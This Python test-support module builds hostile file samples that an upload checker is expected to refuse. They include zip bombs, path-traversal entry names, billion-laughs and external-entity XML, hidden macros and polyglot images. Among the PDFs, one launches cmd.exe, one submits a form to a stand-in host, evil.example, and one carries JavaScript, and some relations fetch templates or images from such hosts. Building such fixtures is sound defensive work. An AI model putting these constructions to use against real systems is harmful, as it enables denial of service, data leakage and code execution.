"""Files that look right and mean harm: name → (suffix, bytes). Each is refused."""

import zipfile
from functools import lru_cache
from random import Random

from tests.support import samples
from tests.support.samples import OFFICE, archive, office, packed_objects, patched, pdf, png, relation

MB = 1024 * 1024
DOCUMENT = "word/document.xml"


def _info(name: str, **values: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    for key, value in values.items():
        setattr(info, key, value)
    return info


def _with(name: str, data: bytes) -> bytes:
    return office("docx", {name: data})


def _named(name: str) -> bytes:
    return archive([*samples.parts().items(), (name, b"<r/>")])


def _hidden_between() -> bytes:
    """Bytes between the last entry and the table, with the table moved behind them."""
    content, secret = office(), b"\0" * 5000
    start = content.index(b"PK\x01\x02")
    moved = content[:start] + secret + content[start:]
    return patched(moved, b"PK\x05\x06", 16, (start + len(secret)).to_bytes(4, "little"), last=True)


def _archives() -> dict[str, bytes]:
    whole, zeros = office(), b"<r>" + bytes(3 * MB)
    inner = office("xlsx", {"xl/embeddings/a.xlsx": office("xlsx")})
    link = _info("word/link.xml", external_attr=0o120777 << 16)
    return {
        "one part swells a thousandfold": _with(DOCUMENT, zeros),
        "two hundred parts swell together": archive(
            [*samples.parts().items(), *((f"word/p{n}.xml", b"<r/>" + bytes(MB - 4)) for n in range(210))]
        ),
        "too many entries": archive(
            [*samples.parts().items(), *((f"word/p{n}.xml", b"<r/>") for n in range(2001))]
        ),
        "claims sixty thousand entries": patched(whole, b"PK\x05\x06", 8, b"\xff\xff\xff\xff", last=True),
        "claims to be beyond 4 GB": samples.beyond_4_gb(whole),
        "an archive as a picture": _with("word/media/image1.png", archive([("a", b"a")])),
        "an archive as a part": _with("word/a.zip", archive([("a", b"a")])),
        "a workbook in a workbook in a document": _with("word/embeddings/a.xlsx", inner),
        "a swelling workbook in a document": _with(
            "word/embeddings/a.xlsx", office("xlsx", {"xl/sheet.xml": zeros})
        ),
        "an entry is listed twice": samples.listed_twice(whole, b"b"),
        "two entries share their bytes": samples.listed_twice(whole, b"[Content_Types].xmk"),
        "an entry lies inside another": samples.listed_inside("word/inner.xml", b"<r/>"),
        "a name leads up": _named("../word/a.xml"),
        "a name is absolute": _named("/etc/a.xml"),
        "a name has a drive": _named("C:/a.xml"),
        "names differ by case only": _named("WORD/DOCUMENT.xml"),
        "a link to elsewhere": archive([*samples.parts().items(), (link, b"<r/>")]),
        "locked": patched(patched(whole, b"PK\x01\x02", 8, b"\x01"), b"PK\x03\x04", 6, b"\x01"),
        "a size is a lie": patched(whole, b"PK\x01\x02", 24, b"\x05\x00\x00\x00"),
        "a checksum is wrong": patched(whole, b"PK\x01\x02", 16, b"\0\0\0\0"),
        "packed another way": archive(samples.parts().items(), zipfile.ZIP_LZMA),
        "something before": samples.PROGRAM + whole,
        "something behind": whole + samples.HTML,
        "something between": _hidden_between(),
        "a comment": patched(whole, b"PK\x05\x06", 20, b"\x04\x00", last=True) + b"HTML",
        "cut in the middle": whole[: len(whole) // 2],
    }


def _packages() -> dict[str, bytes]:
    types = samples.types(*samples.MAIN["docx"], '<!DOCTYPE t [<!ENTITY a "b">]>')
    rels = "word/_rels/document.xml.rels"
    wide = samples.LAUGHS.decode().replace('1.0"?', '1.0" encoding="UTF-16"?').encode("utf-16")
    late = b"<!--" + b"x" * 50000 + b"-->" + samples.FOREIGN[21:]
    macros = f"{OFFICE}.vbaProject"
    return {
        "billion laughs": _with(DOCUMENT, samples.LAUGHS),
        "billion laughs in UTF-16": _with(DOCUMENT, wide),
        "an entity from elsewhere": _with(DOCUMENT, samples.FOREIGN),
        "a document type in the list of types": _with("[Content_Types].xml", types),
        "a document type in relations": _with(rels, samples.FOREIGN),
        "a document type behind a long comment": _with(DOCUMENT, late),
        "a picture from elsewhere": _with(rels, relation("image", "https://evil.example/a.png")),
        "a template from elsewhere": _with(rels, relation("attachedTemplate", "file://evil/a.dotm")),
        "a link that runs": _with(rels, relation("hyperlink", "javascript:alert(1)")),
        "a link to a share": _with(rels, relation("hyperlink", "\\\\evil\\share")),
        "relations without end": _with(rels, relation("hyperlink", Random(1).randbytes(1_200_000).hex())),
        "macros": _with("word/vbaProject.bin", samples.OLD_WORD),
        "macros under another name": _with("word/media/image1.png", samples.OLD_WORD),
        "the type of macros": _with("[Content_Types].xml", samples.types("word/x.xml", macros)),
        "an object": _with("word/embeddings/oleObject1.bin", samples.OLD_WORD),
        "a control": _with("word/activeX/activeX1.xml", b"<r/>"),
        "a program as a picture": _with("word/media/image1.emf", samples.PROGRAM),
        "a page as a picture": _with("word/media/image1.png", samples.HTML),
        "an unknown part": _with("word/run.js", b"alert(1)"),
    }  # fmt: skip


def _pictures() -> dict[str, tuple[str, bytes]]:
    photo, shot = samples.picture("JPEG"), samples.picture("PNG")
    frame = photo.index(b"\xff\xc0")
    wide = photo[: frame + 5] + b"\xff\xff\xff\xff" + photo[frame + 9 :]
    note = b"\xff\xfe" + (len(samples.HTML) + 2).to_bytes(2, "big") + samples.HTML
    archived = archive([("a", b"a")])
    return {
        "a PNG of 30,000 × 30,000": (".png", png(30_000, 30_000)),
        "a PNG of 20,000 × 20,000": (".png", png(20_000, 20_000)),
        "a PNG of nothing": (".png", png(0, 10)),
        "a PNG with a wrong checksum": (".png", patched(shot, b"IHDR", 4, b"\0\0\0\x01")),
        "a PNG and a page": (".png", shot + samples.HTML),
        "a PNG and an archive": (".png", shot + archived),
        "a PNG that is cut": (".png", shot[:-12]),
        "a JPEG of 65,535 × 65,535": (".jpg", wide),
        "a JPEG and an archive": (".jpg", photo + archived),
        "a JPEG and a program": (".jpg", photo + samples.PROGRAM),
        "a JPEG with a page in it": (".jpeg", photo[:2] + note + photo[2:]),
        "a JPEG that is cut": (".jpg", photo[: len(photo) // 2]),
    }


def _documents() -> dict[str, bytes]:
    script = b"1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"
    swollen = packed_objects(bytes(12 * MB))
    return {
        "a PDF with a script": pdf(script),
        "a PDF with a script in other letters": pdf(b"1 0 obj<</S/J#61va#53cript/JS(x)>>endobj"),
        "a PDF with a packed script": pdf(packed_objects(b"1 0 <</S/JavaScript/JS(x)>>")),
        "a PDF with a packed script in other letters": pdf(packed_objects(b"1 0 <</S/#4aavaScript>>")),
        "a PDF that starts a program": pdf(b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
        "a PDF that carries a file": pdf(b"1 0 obj<</Type/EmbeddedFile>>endobj"),
        "a PDF that is locked": pdf(trailer=b"<</Root 1 0 R/Encrypt 5 0 R>>"),
        "a PDF that sends": pdf(b"1 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj"),
        "a PDF that swells": pdf(swollen),
        "a PDF whose packing is unknown": pdf(
            b"2 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nxx\nendstream endobj"
        ),
        "a PDF and an archive": pdf() + archive([("a", b"a")]),
        "an archive in a PDF": pdf(archive([("a", b"a")])[:-2] + b"\x1e\x00"),
        "a PDF and a page": pdf() + samples.HTML,
        "a PDF that is a page": pdf(samples.HTML),
        "a PDF that is cut": pdf()[:-8],
    }


@lru_cache
def bombs() -> dict[str, tuple[str, bytes]]:
    """All of them."""
    office_files = _archives() | _packages()
    return (
        {name: (".docx", content) for name, content in office_files.items()}
        | _pictures()
        | {name: (".pdf", content) for name, content in _documents().items()}
    )
